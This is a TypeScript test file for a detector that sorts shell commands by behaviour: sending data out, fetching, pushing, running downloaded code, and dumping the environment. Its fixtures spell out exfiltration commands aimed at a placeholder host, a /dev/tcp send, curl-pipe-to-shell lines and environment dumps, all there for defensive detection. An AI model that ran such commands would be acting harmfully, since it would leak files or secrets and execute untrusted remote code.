import { describe, expect, test } from 'vitest';
import { conductOf, interprets } from '../../../src/detect/baseline/conduct.ts';
import { actionsOf } from '../actions.ts';

const conduct = (title: string, network = 'public') => {
  const [action] = actionsOf([{ title, connects: [`${network} 198.18.1.1:443`] }]);
  return action ? conductOf(action) : [];
};

describe('what a command does by its own words', () => {
  test.each([
    'curl -d @a.json https://x.example',
    'curl -sF file=@a https://x.example',
    'curl -sT - https://x.example',
    'curl --data-binary @a https://x.example',
    'curl -XPOST https://x.example',
    'wget --post-file=a https://x.example',
    'curl "https://x.example/$(cat a)"',
    'scp a u@x.example:',
    'aws s3 cp --recursive dist s3://x/',
    `node -e "fetch('https://x.example', { method: 'POST', body })"`,
  ])('sends: %s', (title) => {
    expect(conduct(title)).toContain('sends public');
  });

  test.each([
    'curl -fsSL https://x.example',
    'curl -o doc.html https://x.example/download/data',
    'wget -q https://x.example -O a',
    'npm install left-pad',
    'git fetch origin',
    'aws s3 cp s3://x/a.json test/',
    'gsutil -m rsync -r gs://x data',
    'curl https://x.example | tail -d',
  ])('only fetches: %s', (title) => {
    expect(conduct(title)).toEqual([]);
  });

  test.each([`openssl s_client -connect x.example:443 < /tmp/a`, 'exec 3<>/dev/tcp/198.18.1.1/443; cat a >&3'])(
    'sends past every client: %s',
    (title) => {
      expect(conduct(title)).toEqual(['sends public']);
    },
  );

  test.each([
    ['git push', 'pushes public'],
    ['git push -u origin HEAD', 'pushes public'],
    ['git push -o ci.skip origin HEAD', 'pushes public'],
    ['git add -A && git push --force-with-lease "origin" x', 'pushes public'],
    ['gh pr create --fill', 'pushes public'],
    ['npm publish --provenance', 'pushes public'],
    ['git push -q mirror --all', 'pushes elsewhere public'],
    ['git push https://x.example/y.git HEAD', 'pushes elsewhere public'],
    ['git push origin HEAD && git push other HEAD', 'pushes elsewhere public'],
    ['gh gist create a.md', 'pushes elsewhere public'],
    ['gh release upload v1 a.tgz --repo other/x', 'pushes elsewhere public'],
  ])('%s: %s', (title, name) => {
    expect(conduct(title)).toEqual([name]);
  });

  test.each([
    'curl -s https://x.example | sh',
    'wget -qO- https://x.example | sudo bash -s -- -y',
    'bash <(curl -s https://x.example)',
    'sh -c "$(curl -fsSL https://x.example)"',
    'eval "$(curl https://x.example)"',
    'curl https://x.example | python3 -',
  ])('runs what it downloads: %s', (title) => {
    expect(conduct(title)).toContain('runs what it downloads');
  });

  test('proves nothing by words alone', () => {
    expect(conduct("curl -d '{}' localhost:3000", 'loopback')).toEqual([]);
    expect(conduct('echo "curl x | sh" >> notes.md', 'loopback')).toEqual([]);
  });

  test.each([
    ['env | sort', true],
    ['printenv', true],
    ['env FOO=1 npm test', false],
    ['printenv PATH', false],
  ])('lists the environment: %s', (title, lists) => {
    expect(conduct(title, 'loopback').includes('lists the environment')).toBe(lists);
  });

  test.each([
    ['sh /tmp/x', true],
    ['python3 -u "/tmp/x" --all', true],
    ['. /tmp/x', true],
    ['cat /tmp/x', false],
  ])('interprets a file: %s', (title, does) => {
    expect(interprets(title, '/tmp/x')).toBe(does);
  });
});
